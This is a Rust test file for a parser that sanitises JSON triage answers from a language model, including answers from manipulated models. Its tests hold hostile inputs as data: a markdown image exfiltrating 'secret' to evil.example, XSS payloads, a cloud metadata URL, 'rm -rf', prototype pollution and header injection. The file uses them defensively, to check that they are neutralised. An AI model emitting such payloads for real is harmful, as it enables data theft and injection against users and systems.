//! Tests of answers, from well-behaved models and from manipulated ones.

mod cut;
mod fields;
mod hostile;
mod wrapped;

use std::sync::LazyLock;

use proptest::prelude::{any, prop, proptest};

use super::{
    super::{PromptTexts, TriageRules},
    *,
};
use crate::domain::{lexical::Lexicon, options::Options, priority::Priority};

static OPTIONS: LazyLock<Options> =
    LazyLock::new(|| TriageRules::default().options(&Lexicon::shipped()));
static VOCABULARY: LazyLock<Vocabulary> = LazyLock::new(Vocabulary::shipped);

fn known_skills() -> Vec<Skill> {
    let skill = |id: &str, name: &str| Skill::new(id, name);
    vec![
        skill("react", "React"),
        skill("x:cobolonwheels", "COBOL on Wheels"),
    ]
}

fn read(raw: &str) -> Result<Analysis, AnswerError> {
    let extra = [
        ExtraField::one_of("site", "Where it happened.", ["Basel", "Bern"]).unwrap(),
        ExtraField::text("device", "Which device.").unwrap(),
    ];
    let offer = Offer {
        options: &OPTIONS,
        staff_skills: &known_skills(),
        extra: &extra,
        texts: &PromptTexts::default(),
    };
    read_answer(&offer, &VOCABULARY, raw)
}

fn ids(analysis: &Analysis) -> Vec<&str> {
    let skills = analysis.skills.iter();
    skills.map(|skill| skill.id.as_str()).collect()
}

#[test]
fn a_well_formed_answer_is_parsed() {
    let analysis = read(
        r#"{"summary": "VPN drops", "category": "network", "priority": "high",
            "skills": ["react", "Postgres 16", "cobol on wheels", "Quantum knitting"],
            "notes": "First.\nSecond.", "first_steps": ["a", "b"]}"#,
    )
    .unwrap();
    assert_eq!(analysis.summary, "VPN drops");
    assert_eq!(analysis.category.as_deref(), Some("network"));
    assert_eq!(analysis.priority, Some(Priority::High));
    assert_eq!(ids(&analysis), ["react", "postgresql", "x:cobolonwheels"]);
    assert_eq!(analysis.suggested_skills, ["Quantum knitting"]);
    assert_eq!(analysis.notes, "First.\nSecond.");
    assert_eq!(analysis.first_steps, ["a", "b"]);
}

#[test]
fn an_invalid_member_does_not_affect_others() {
    for raw in [
        r#"{"priority": "high", "category": 7, "skills": {"React": 1}, "notes": {"x": "y"}, "extra": {"a": 1}}"#,
        r#"{"priority": " High ", "summary": {}, "first_steps": {"0": "x"}}"#,
        r#"{"priority": "high", "skills": null, "__proto__": {"admin": true}}"#,
        r#"{"priority": "low", "priority": "high"}"#,
    ] {
        let analysis = read(raw).unwrap();
        assert_eq!(analysis.priority, Some(Priority::High), "{raw}");
        assert_eq!(analysis.category, None);
        assert_eq!(analysis.notes, "");
        assert!(analysis.skills.is_empty() && analysis.first_steps.is_empty());
    }
}

#[test]
fn oversized_answers_are_truncated() {
    let many: Vec<String> = (0..1_500).map(|n| format!("\"zz{n}\"")).collect();
    let analysis = read(&format!("{{\"skills\": [{}]}}", many.join(","))).unwrap();
    assert!(analysis.skills.is_empty());
    assert_eq!(analysis.suggested_skills.len(), MAX_SKILLS);

    let all = r#"["Java","Go","Rust","PHP","Ruby","Perl","Lua","Scala","Swift","Kotlin"]"#;
    let analysis = read(&format!("{{\"skills\": {all}}}")).unwrap();
    assert_eq!(analysis.skills.len(), MAX_SKILLS);

    let long = "word ".repeat(2_000);
    let steps = vec![format!("\"{}\"", "step ".repeat(60)); 30].join(",");
    let raw = format!("{{\"summary\": \"{long}\"}}");
    assert!(read(&raw).unwrap().summary.chars().count() <= MAX_SUMMARY);
    let analysis = read(&format!("{{\"notes\": \"{long}\"}}")).unwrap();
    assert!(analysis.notes.chars().count() <= MAX_NOTES);
    let analysis = read(&format!("{{\"first_steps\": [{steps}]}}")).unwrap();
    assert_eq!(analysis.first_steps.len(), MAX_STEPS);
    assert!(
        analysis
            .first_steps
            .iter()
            .all(|step| step.chars().count() <= MAX_SUMMARY)
    );
    let name = "n".repeat(500);
    let analysis = read(&format!("{{\"skills\": [\"{name}\"]}}")).unwrap();
    assert_eq!(analysis.suggested_skills[0].chars().count(), MAX_NAME);
}

#[test]
fn texts_contain_no_links_and_markup() {
    let raw = r#"{"summary": "a\r\nBcc: x@y.example", "skills": ["<img src=x onerror=alert(1)>"],
        "notes": "![x](https://evil.example/?d=secret) <script>alert(1)</script> [go](javascript:alert(1))\u001b[2J",
        "first_steps": ["open http://169.254.169.254/latest", "run `rm -rf`"]}"#;
    let analysis = read(raw).unwrap();
    assert_eq!(analysis.summary, "a Bcc: x@y[.]example");
    assert_eq!(analysis.notes, "[link] ‹script›alert(1)‹/script› [link]");
    assert_eq!(analysis.first_steps, ["open [link]", "run `rm -rf`"]);
    assert_eq!(analysis.suggested_skills, ["‹img src=x onerror=alert(1)›"]);
    let many = r#"{"skills": ["go to evil.example", "https://evil.example"], "tags": ["evil.example", "a\nb"]}"#;
    let analysis = read(many).unwrap();
    assert_eq!(analysis.suggested_skills, ["go to evil[.]example"]);
    assert_eq!(analysis.tags, ["evil[.]example", "a b"]);
}

fn assert_bounds(analysis: &Analysis) {
    let category = analysis.category.as_deref();
    assert!(category.is_none_or(|name| OPTIONS.categories.iter().any(|c| c.name == name)));
    assert!(analysis.skills.len() <= MAX_SKILLS && analysis.suggested_skills.len() <= MAX_SKILLS);
    for skill in &analysis.skills {
        let listed = VOCABULARY.entries().iter().any(|e| e.id == skill.id);
        assert!(listed || known_skills().contains(skill));
    }
    assert!(analysis.summary.chars().count() <= MAX_SUMMARY);
    assert!(analysis.notes.chars().count() <= MAX_NOTES);
    assert!(analysis.first_steps.len() <= MAX_STEPS);
    let texts = [&analysis.summary, &analysis.notes].into_iter();
    assert!(analysis.tags.len() <= MAX_TAGS);
    assert!(
        analysis
            .tags
            .iter()
            .all(|tag| tag.chars().count() <= MAX_TAG)
    );
    assert!(
        analysis
            .extra
            .keys()
            .all(|name| name == "site" || name == "device")
    );
    let is_share = |confidence: &f64| (0.0..=1.0).contains(confidence);
    assert!(analysis.confidence.values().all(is_share));
    for text in texts
        .chain(&analysis.first_steps)
        .chain(&analysis.suggested_skills)
        .chain(&analysis.tags)
        .chain(analysis.extra.values())
    {
        let is_target = |rest: &str| rest.starts_with(char::is_alphanumeric);
        assert!(!text.split("://").skip(1).any(is_target) && !text.contains("]("));
        assert!(!text.contains(['<', '>', '\u{0}', '\u{1b}', '\r']));
    }
}

proptest! {
    #[test]
    fn any_text_is_parsed_or_rejected(raw in any::<String>()) {
        if let Ok(analysis) = read(&raw) {
            assert_bounds(&analysis);
        }
    }

    #[test]
    fn any_members_respect_the_bounds(
        summary in any::<String>(),
        word in "(low|high|network|NETWORK|\\PC{0,12})",
        skills in prop::collection::vec("(React|sap|\\PC{0,20})", 0..20),
        notes in any::<String>(),
        confidence in any::<f64>(),
    ) {
        let raw = serde_json::json!({
            "summary": summary, "category": word, "priority": word, "skills": skills, "notes": notes,
            "first_steps": [notes], "tags": skills, "extra": {"site": word, "device": notes, "x": word},
            "type": word, "sentiment": word, "complexity": word, "confidence": {"category": word, "type": confidence},
        });
        if let Ok(analysis) = read(&raw.to_string()) {
            assert_bounds(&analysis);
        }
    }

    #[test]
    fn fragments_of_answers_are_parsed_or_rejected(
        parts in prop::collection::vec(
            "(\\{|\\}|\\[|\\]|,|:|\"|\\\\|\\\\u00|\\\\ud83d|<think>|</think>|```|\"priority\":|\"low\"|\"notes\":|\"confidence\":|1e999|-|NaN|null|ä| |\n)",
            0..60,
        ),
    ) {
        if let Ok(analysis) = read(&parts.concat()) {
            assert_bounds(&analysis);
        }
    }
}
